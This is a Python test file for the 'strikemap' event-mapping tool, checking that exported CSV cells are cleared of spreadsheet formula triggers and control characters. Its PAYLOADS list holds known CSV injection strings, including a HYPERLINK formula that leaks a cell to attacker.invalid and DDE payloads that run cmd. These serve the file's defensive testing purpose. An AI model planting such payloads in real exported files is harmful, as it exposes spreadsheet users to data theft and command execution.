"""Untrusted text at the edges: no control characters in, no spreadsheet formula out, text kept."""

from __future__ import annotations

import csv
import io
import unicodedata
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from strikemap.cli.root import app
from strikemap.eventfile import read_events
from strikemap.export import write_events, write_mentions
from strikemap.geoframe import EVENT_COLUMNS
from strikemap.inputs import read_bytes_document
from strikemap.models import StrikeEvent
from strikemap.pipeline import geocode_article
from strikemap.sanitize import FORMULA_TRIGGERS, clean_text, defuse_cell, restore_cell

# OWASP's trigger characters, and payloads seen in the wild (DDE, HYPERLINK, arithmetic).
PAYLOADS = [
    '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C notepad'!'A1'",
]
TEXT_COLUMNS = ("event_id", "actor1", "actor2", "location", "place_id", "admin1", "admin2", "admin3",
                "admin3_pcode", "targets", "source", "sources", "evidence", "notes")


def base_event(**changes: object) -> StrikeEvent:
    event = StrikeEvent(event_id="sm-1", event_type="air_strike", lat=35.6138, lon=36.5645, location="Kafr Nabl",
                        place_id="gn:168661", geo_precision=1, event_date="2019-05-06",
                        actor1="Military Forces of Syria", admin1="Idlib", fatalities=3, targets=("hospital",),
                        source="r.txt",
                        evidence="Jets struck Kafr Nabl.")
    return replace(event, **changes)  # type: ignore[arg-type]


# --- the rule -------------------------------------------------------------------------------------


@given(st.text())
def test_defuse_round_trips_and_never_leaves_a_formula(text: str) -> None:
    cell = defuse_cell(text)
    assert restore_cell(cell) == text
    if cell.startswith(FORMULA_TRIGGERS):
        float(cell)  # only a plain number may start with + or -


@pytest.mark.parametrize("number", ["-36.5", "+1", "-1e3", "12", "-.5"])
def test_numbers_stay_numbers(number: str) -> None:
    assert defuse_cell(number) == number


@given(st.text())
def test_clean_text_leaves_no_control_character_and_is_idempotent(text: str) -> None:
    cleaned = clean_text(text)
    assert all(ch in "\t\n" or unicodedata.category(ch) != "Cc" for ch in cleaned)
    assert clean_text(cleaned) == cleaned


# --- CSV written by strikemap ---------------------------------------------------------------------


def _cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("column", TEXT_COLUMNS)
def test_each_trigger_in_each_event_column_is_defused_and_read_back(tmp_path: Path, column: str,
                                                                     payload: str) -> None:
    value: object = (payload,) if column in ("targets", "sources") else payload
    payload = payload.replace("\r", "\n") if column not in ("targets", "sources") else payload
    event = base_event(**{column: value})
    data = write_events([event], None, "csv")
    assert data is not None
    row = _cells(data)[0]
    assert not row[column].startswith(FORMULA_TRIGGERS), row[column]
    # (A carriage return becomes a line break on the way out, and a line break starts no formula.)
    assert row[column].startswith("'") or not clean_text(payload).startswith(FORMULA_TRIGGERS)
    # Numbers stay numbers, in the same file.
    assert row["longitude"] == "36.5645" and row["fatalities"] == "3"
    path = tmp_path / "events.csv"
    path.write_bytes(data)
    back = read_events(path)
    got = back[column].iloc[0]
    if column in ("targets", "sources"):
        assert list(got) == [payload.strip()] or got == payload.strip()
    else:
        assert got == clean_text(payload).strip() or got == clean_text(payload)


def test_negative_longitude_is_a_number_in_csv() -> None:
    event = base_event(lat=40.4, lon=-3.7, location="=1+2")
    data = write_events([event], None, "csv")
    assert data is not None
    frame = pd.read_csv(io.BytesIO(data))
    assert frame["longitude"].dtype.kind == "f" and frame["longitude"].iloc[0] == -3.7
    assert frame["location"].iloc[0] == "'=1+2"


@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_geocode_csv_defuses_file_names_and_text(payload: str) -> None:
    result = geocode_article("Warplanes struck Kafr Nabl on Monday.", source=payload + ".txt")
    data = write_mentions([(payload + ".txt", m) for m in result.mentions], None, "csv")
    assert data is not None
    rows = _cells(data)
    assert rows
    for row in rows:
        for name, cell in row.items():
            if name not in ("start", "end", "score", "latitude", "longitude"):
                assert not cell.startswith(FORMULA_TRIGGERS), (name, cell)
        assert restore_cell(row["source"]) == payload + ".txt"


def test_cli_events_csv_defuses_a_file_name(tmp_path: Path) -> None:
    report = tmp_path / "=1+2.txt"
    report.write_text("Russian warplanes struck Kafr Nabl in southern Idlib on Monday, killing three.\n",
                      encoding="utf-8")
    result = CliRunner().invoke(app, ["events", str(report), "--format", "csv", "--date", "2019-05-07"])
    assert result.exit_code == 0, result.output
    rows = _cells(result.stdout.encode("utf-8"))
    assert rows and all(not row[c].startswith(FORMULA_TRIGGERS) for row in rows for c in TEXT_COLUMNS)
    assert all(c in rows[0] for c in EVENT_COLUMNS)


# --- control characters on the way in -------------------------------------------------------------


def test_nul_after_the_first_8_kb_never_reaches_a_cell(tmp_path: Path) -> None:
    text = ("Reports of the day. " * 500) + (
        "\n\nRussian warplanes struck Kafr\x00 Nabl\x1b on Monday\x07, killing three.\n")
    assert len(text.split("\x00")[0]) > 8192
    doc = read_bytes_document("r.txt", text.encode("utf-8"))
    assert not isinstance(doc, str) and "\x00" not in doc.text and "\x1b" not in doc.text  # type: ignore[union-attr]
    report = tmp_path / "r.txt"
    report.write_text(text, encoding="utf-8")
    result = CliRunner().invoke(app, ["events", str(report), "--format", "csv", "--date", "2019-05-07"])
    assert result.exit_code == 0, result.output
    assert "Kafr Nabl" in result.stdout
    assert not any(unicodedata.category(ch) == "Cc" and ch not in "\r\n\t" for ch in result.stdout)


@pytest.mark.parametrize("fmt", ["geojson", "csv", "gpkg"])
def test_event_file_fields_lose_control_characters(tmp_path: Path, fmt: str) -> None:
    bad = "Kafr\x1b[31m Nabl\x7f\x85"
    path = tmp_path / f"ev.{fmt}"
    write_events([base_event(location=bad, evidence="a\x00b" if fmt != "gpkg" else "a\x01b", actor1=bad)], path)
    if fmt == "csv":  # strikemap's CSV writer cleans too (the one place a cell is written)
        assert b"\x00" not in path.read_bytes() and b"\x1b" not in path.read_bytes()
    frame = read_events(path)
    assert frame["location"].iloc[0] == "Kafr[31m Nabl"
    assert frame["actor1"].iloc[0] == "Kafr[31m Nabl"
    assert frame["evidence"].iloc[0] == "ab"
